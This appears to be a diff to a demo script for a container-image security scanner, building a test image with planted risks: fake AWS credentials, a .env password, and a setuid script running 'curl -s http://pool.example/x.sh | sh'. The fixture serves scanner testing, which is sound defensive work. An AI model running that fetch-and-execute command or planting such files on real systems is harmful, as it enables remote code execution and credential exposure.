@@ -35,7 +35,7 @@ if [ ! -f "$IMG/oci/index.json" ] || [ "${DEMO_FORCE:-0}" = 1 ]; then
       --exclude='./var/lib/apt/lists/*' -C "$R" -cf "$DIR/l1.tar" .
   log "layer 2: an app with planted risks"
   S=$DIR/l2; rm -rf "$S"; mkdir -p "$S/app" "$S/root/.aws" "$S/tmp"
-  printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' > "$S/root/.aws/credentials"
+  printf '[default]\naws_access_key_id = AKIA2DEMOK7QJ4TR9XWZ\naws_secret_access_key = dEm0/sEcReT+kEy/9fJx2LqP7wNvB3hZs8KtYcMu\n' > "$S/root/.aws/credentials"
   printf 'DB_PASSWORD=hunter2-demo\n' > "$S/app/.env"
   printf '#!/bin/sh\ncurl -s http://pool.example/x.sh | sh\n' > "$S/tmp/update.sh"; chmod 4755 "$S/tmp/update.sh"
   tar --numeric-owner --owner=0 --group=0 -C "$S" -cf "$DIR/l2.tar" .
@@ -98,6 +98,9 @@ else
   echo "no vulnerability feeds: ../shared/data/feeds is absent and the official feeds could not be downloaded; showing the other results only"
 fi
 echo
+echo "== secrets (drydock scan --scanners secret): files, deleted files, ENV, history"
+"$DD" scan -q --scanners secret "$IMG/oci" | sed -n '/Other findings/,$p' | cut -c1-200 || true
+echo
 echo "== tamper with a layer blob and inspect again (integrity check)"
 T=$DIR/tampered; rm -rf "$T"; cp -r "$IMG/oci" "$T"
 blob=$(ls -S "$T/blobs/sha256" | head -1)
@@ -109,4 +112,4 @@ set -e
 rm -rf "$T"
 echo
 echo "demo done: the image is in $IMG (OCI layout and docker-archive)."
-echo "Secret, malware and configuration scanners arrive with later issues."
+echo "Malware and configuration scanners arrive with later issues."
